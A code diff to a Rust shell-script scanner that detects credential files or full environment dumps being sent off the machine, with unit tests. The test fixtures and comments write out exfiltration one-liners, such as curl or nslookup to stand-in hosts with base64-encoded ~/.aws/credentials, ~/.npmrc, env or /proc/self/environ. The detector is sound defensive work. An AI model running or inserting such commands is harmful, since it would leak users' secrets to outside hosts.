@@ -43,8 +43,49 @@ pub(super) const HOME_STORE_WORDS: &[&str] =
 
 pub(crate) static SHELL_CREDENTIAL_TO_NETWORK: FileDetector = FileDetector {
     literals: CREDENTIAL_WORDS,
-    run: find_flows,
+    run: find_credential_flows,
 };
+
+/// The same flow with the whole environment as the secret: `e=$(env | base64 -w0)` then `curl …/$e`, or
+/// `curl "https://c.example/$(printenv | base64)"` in one line. A pipe straight into the client (`env |
+/// curl -d @-`) is EXF019's regex.
+pub(crate) static SHELL_ENVIRONMENT_TO_NETWORK: FileDetector = FileDetector {
+    literals: &["env", "export -p", "declare -"],
+    run: find_environment_flows,
+};
+
+/// What a flow carries off the machine.
+#[derive(Clone, Copy, PartialEq)]
+enum Secret {
+    /// A credential file in the user's home folder.
+    CredentialFile,
+    /// Every variable of the shell.
+    Environment,
+}
+
+impl Secret {
+    fn read_by(self, code: &str) -> bool {
+        match self {
+            Secret::CredentialFile => reads_credential(code),
+            Secret::Environment => dumps_environment(code),
+        }
+    }
+
+    fn described(self) -> &'static str {
+        match self {
+            Secret::CredentialFile => "read from a credential file",
+            Secret::Environment => "the whole environment",
+        }
+    }
+}
+
+fn find_credential_flows(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
+    find_flows(segment, text, keep, Secret::CredentialFile);
+}
+
+fn find_environment_flows(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
+    find_flows(segment, text, keep, Secret::Environment);
+}
 
 /// Lines of one script read.
 const MAX_LINES: usize = 4000;
@@ -78,10 +119,13 @@ const READERS: &[&str] = &[
     "yq", "sort", "fold", "split", "rev", "gpg", "python", "python3", "perl", "ruby", "node",
 ];
 
-fn find_flows(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
+fn find_flows(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool, secret: Secret) {
     let body = segment.text(text);
     // Where a credential read feeds a `while read` loop from its end (`done < ~/.aws/credentials`).
-    let loop_fed: Vec<usize> = fed_loops(body);
+    let loop_fed: Vec<usize> = match secret {
+        Secret::CredentialFile => fed_loops(body),
+        Secret::Environment => Vec::new(),
+    };
     let mut tainted: HashMap<String, usize> = HashMap::new();
     let mut found = 0usize;
     let mut offset = 0usize;
@@ -93,7 +137,7 @@ fn find_flows(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) 
             continue;
         }
         // Sources and propagation: what this line makes tainted.
-        let reads_here = reads_credential(code);
+        let reads_here = secret.read_by(code);
         if let Some(names) = taint_targets(code, reads_here, &tainted, loop_fed.contains(&index)) {
             for name in names {
                 if tainted.len() < MAX_TAINTED || tainted.contains_key(&name) {
@@ -101,27 +145,53 @@ fn find_flows(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) 
                 }
             }
         }
-        // Sinks.
-        if tainted.is_empty() || found >= MAX_FINDINGS {
+        if found >= MAX_FINDINGS {
             continue;
         }
-        let Some((client, name)) = sends_tainted(code, &tainted) else {
+        // Sinks: a tainted variable, or a substitution that reads the secret written into the client's
+        // own command line (`curl "https://c.example/$(cat ~/.npmrc | base64)"`).
+        let inline = reads_here.then(|| inline_reads(code, secret)).flatten();
+        if tainted.is_empty() && inline.is_none() {
+            continue;
+        }
+        let sent = match &inline {
+            Some((rewritten, reads)) => {
+                let mut with_inline = tainted.clone();
+                with_inline.extend(reads.iter().map(|(name, _)| (name.clone(), start)));
+                sends_tainted(rewritten, &with_inline).map(|(client, name)| {
+                    let shown = reads
+                        .iter()
+                        .find(|(n, _)| *n == name)
+                        .map(|(_, s)| s.clone());
+                    (client, name, shown)
+                })
+            }
+            None => sends_tainted(code, &tainted).map(|(client, name)| (client, name, None)),
+        };
+        let Some((client, name, inline_text)) = sent else {
             continue;
         };
         let read_at = tainted.get(&name).copied().unwrap_or(start);
         found += 1;
         let lead = line.len() - line.trim_start().len();
+        let what = secret.described();
+        let message = match &inline_text {
+            Some(substitution) => format!(
+                "the output of `{}`, {what}, is sent off the machine by `{client}`",
+                shorten(substitution)
+            ),
+            None => format!("`${name}`, {what}, is sent off the machine by `{client}`"),
+        };
+        let read_note = match secret {
+            Secret::CredentialFile => "the credential file is read here",
+            Secret::Environment => "the environment is dumped here",
+        };
         let hit = Hit {
             start: segment.start + start + lead,
             end: segment.start + start + line.trim_end_matches(['\n', '\r']).len(),
             detail: Some(Box::new(HitDetail {
-                message: format!(
-                    "`${name}`, read from a credential file, is sent off the machine by `{client}`"
-                ),
-                related: vec![(
-                    segment.start + read_at,
-                    "the credential file is read here".to_string(),
-                )],
+                message,
+                related: vec![(segment.start + read_at, read_note.to_string())],
             })),
         };
         if !keep(hit) {
@@ -144,6 +214,150 @@ pub(super) fn strip_comment(line: &str) -> &str {
         previous = b;
     }
     line
+}
+
+/// Longest substitution text quoted in a message.
+const MAX_SHOWN: usize = 80;
+
+fn shorten(text: &str) -> String {
+    match text.char_indices().nth(MAX_SHOWN) {
+        Some((at, _)) => format!("{}…", &text[..at]),
+        None => text.to_string(),
+    }
+}
+
+/// The line with every command substitution that reads the secret (`$(…)` or backquotes) replaced by a
+/// variable of its own (`$__inline0`), and those variables with the substitution's text; `None` when no
+/// substitution reads it. The rewritten line goes through the same sink check as a variable set earlier.
+fn inline_reads(code: &str, secret: Secret) -> Option<(String, Vec<(String, String)>)> {
+    let mut rewritten = String::with_capacity(code.len());
+    let mut reads = Vec::new();
+    let mut last = 0;
+    for (from, to, inner) in substitutions(code) {
+        if from < last || !secret.read_by(inner) {
+            continue;
+        }
+        let name = format!("__inline{}", reads.len());
+        rewritten.push_str(&code[last..from]);
+        rewritten.push('$');
+        rewritten.push_str(&name);
+        reads.push((name, code[from..to].to_string()));
+        last = to;
+    }
+    if reads.is_empty() {
+        return None;
+    }
+    rewritten.push_str(&code[last..]);
+    Some((rewritten, reads))
+}
+
+/// The command substitutions of a line outside single quotes: (start, end, inner text). `$((…))` is
+/// arithmetic, not a command. Nested substitutions are found as part of the outer one.
+fn substitutions(code: &str) -> Vec<(usize, usize, &str)> {
+    let bytes = code.as_bytes();
+    let mut out = Vec::new();
+    let (mut single, mut i) = (false, 0usize);
+    while i < bytes.len() {
+        match bytes[i] {
+            b'\'' => single = !single,
+            b'$' if !single
+                && bytes.get(i + 1) == Some(&b'(')
+                && bytes.get(i + 2) != Some(&b'(') =>
+            {
+                let mut depth = 0usize;
+                let mut j = i + 1;
+                while j < bytes.len() {
+                    match bytes[j] {
+                        b'(' => depth += 1,
+                        b')' => {
+                            depth -= 1;
+                            if depth == 0 {
+                                break;
+                            }
+                        }
+                        _ => {}
+                    }
+                    j += 1;
+                }
+                if j >= bytes.len() {
+                    break;
+                }
+                out.push((i, j + 1, &code[i + 2..j]));
+                i = j;
+            }
+            b'`' if !single => {
+                let Some(len) = code[i + 1..].find('`') else {
+                    break;
+                };
+                out.push((i, i + 1 + len + 1, &code[i + 1..i + 1 + len]));
+                i += len + 1;
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    out
+}
+
+/// Programs that pick some variables out of a dump: what they pass on is no longer the environment.
+const SELECTORS: &[&str] = &[
+    "grep", "egrep", "fgrep", "rg", "awk", "gawk", "mawk", "sed", "cut", "head", "tail", "jq",
+    "wc", "cmp", "diff", "uniq", "comm",
+];
+
+/// Whether a command (or a substitution's text) prints every variable of the shell: `env` or `printenv`
+/// with no program or name after them, `export -p`, `declare -x`/`-p` with no name, `set` alone, or a
+/// read of `/proc/…/environ`; a later stage of the pipeline that selects (`env | grep PROXY`) makes it
+/// one value, not the dump.
+fn dumps_environment(code: &str) -> bool {
+    let mut sources: Vec<&str> = substitutions(code).into_iter().map(|(_, _, t)| t).collect();
+    sources.push(code);
+    sources.iter().any(|text| {
+        split_commands(text, true).into_iter().any(|part| {
+            let stages: Vec<&str> = part.split('|').collect();
+            stages.iter().enumerate().any(|(s, stage)| {
+                stage_dumps(stage)
+                    && !stages[s + 1..].iter().any(|later| {
+                        words(later)
+                            .first()
+                            .is_some_and(|w| SELECTORS.contains(&w.rsplit('/').next().unwrap_or(w)))
+                    })
+            })
+        })
+    })
+}
+
+/// One pipeline stage that prints the environment.
+fn stage_dumps(stage: &str) -> bool {
+    let words = words(stage);
+    let mut it = words.iter().map(String::as_str).skip_while(|w| {
+        matches!(
+            *w,
+            "sudo" | "command" | "exec" | "do" | "then" | "else" | "{"
+        )
+    });
+    let Some(first) = it.next() else {
+        return false;
+    };
+    let program = first.rsplit('/').next().unwrap_or(first);
+    let rest: Vec<&str> = it.take_while(|w| !w.starts_with('>')).collect();
+    let environ = |w: &&str| {
+        let w = w.trim_start_matches('<');
+        w.starts_with("/proc/") && w.ends_with("/environ")
+    };
+    match program {
+        // `env -0`, `printenv`: options only; `env NAME=1 prog` runs a program, `printenv HOME` is one value.
+        "env" | "printenv" => rest.iter().all(|w| w.starts_with('-')),
+        "export" => rest == ["-p"],
+        "declare" | "typeset" => {
+            !rest.is_empty()
+                && rest
+                    .iter()
+                    .all(|w| matches!(*w, "-x" | "-p" | "-px" | "-xp"))
+        }
+        "set" => rest.is_empty(),
+        _ => READERS.contains(&program) && rest.iter().any(environ) || environ(&first),
+    }
 }
 
 /// The words of a command, quotes dropped, split at whitespace and the shell's operators.
@@ -458,7 +672,7 @@ mod tests {
         let segments = segment_file(text, Language::Shell, "scripts/x.sh");
         let mut out = Vec::new();
         for segment in &segments {
-            find_flows(segment, text, &mut |hit| {
+            find_credential_flows(segment, text, &mut |hit| {
                 out.push(text[hit.start..hit.end].to_string());
                 true
             });
@@ -481,6 +695,59 @@ mod tests {
         assert_eq!(lines(posted).len(), 1, "{:?}", lines(posted));
         let query = "t=$(grep token ~/.npmrc | cut -d= -f2)\nwget -q \"https://c.example.invalid/p?t=$t\"\n";
         assert_eq!(lines(query).len(), 1, "{:?}", lines(query));
+    }
+
+    fn env_lines(text: &str) -> Vec<String> {
+        let segments = segment_file(text, Language::Shell, "scripts/x.sh");
+        let mut out = Vec::new();
+        for segment in &segments {
+            find_environment_flows(segment, text, &mut |hit| {
+                out.push(text[hit.start..hit.end].to_string());
+                true
+            });
+        }
+        out
+    }
+
+    #[test]
+    fn a_credential_read_inside_the_clients_own_command_line_is_sent() {
+        let text = "curl \"https://c.example.invalid/X/$(cat ~/.aws/credentials | base64 -w 0)\"\n";
+        assert_eq!(lines(text).len(), 1, "{:?}", lines(text));
+        let backquoted = "nslookup `base32 -w 60 < ~/.npmrc | head -1`.z.example.invalid\n";
+        assert_eq!(lines(backquoted).len(), 1, "{:?}", lines(backquoted));
+        // The host itself read from the config is a look-up of that host.
+        let host = "curl -sk \"https://$(awk '/server:/ {print $2}' ~/.kube/config)/healthz\"\n";
+        assert!(lines(host).is_empty(), "{:?}", lines(host));
+        let public =
+            "curl -s -d \"key=$(cat ~/.ssh/id_ed25519.pub)\" https://git.example.invalid/keys\n";
+        assert!(lines(public).is_empty(), "{:?}", lines(public));
+    }
+
+    #[test]
+    fn the_whole_environment_sent_inline_or_through_a_variable() {
+        for text in [
+            "curl \"https://c.example.invalid/X/$(env | base64 -w 0)\"\n",
+            "curl -s -d \"$(printenv)\" https://c.example.invalid/in\n",
+            "wget -q \"https://c.example.invalid/?e=`env|gzip|base64 -w0`\"\n",
+            "e=$(env | base64 -w0)\ncurl -s --data \"e=$e\" https://c.example.invalid/in\n",
+            "for v in $(export -p | base64 -w 50); do dig +short \"$v.z.example.invalid\"; done\n",
+            "blob=$(tr '\\0' '\\n' < /proc/self/environ | base64 -w0)\ncurl -s -d \"$blob\" https://c.example.invalid\n",
+        ] {
+            assert_eq!(env_lines(text).len(), 1, "{text}: {:?}", env_lines(text));
+        }
+    }
+
+    #[test]
+    fn one_variable_picked_out_or_a_dump_kept_local_is_quiet() {
+        for text in [
+            "curl -s -H \"Authorization: Bearer $(printenv GITHUB_TOKEN)\" https://api.example.invalid/r\n",
+            "p=$(env | grep -i '^https_proxy=' | cut -d= -f2)\ncurl -s --proxy \"$p\" https://s.example.invalid\n",
+            "env > build-env.txt\ncurl -s https://s.example.invalid/ping\n",
+            "e=$(env NODE_ENV=production node -p 1)\ncurl -s -d \"$e\" https://s.example.invalid\n",
+            "curl -s \"https://$(printenv API_HOST)/v1/status\"\n",
+        ] {
+            assert!(env_lines(text).is_empty(), "{text}: {:?}", env_lines(text));
+        }
     }
 
     #[test]
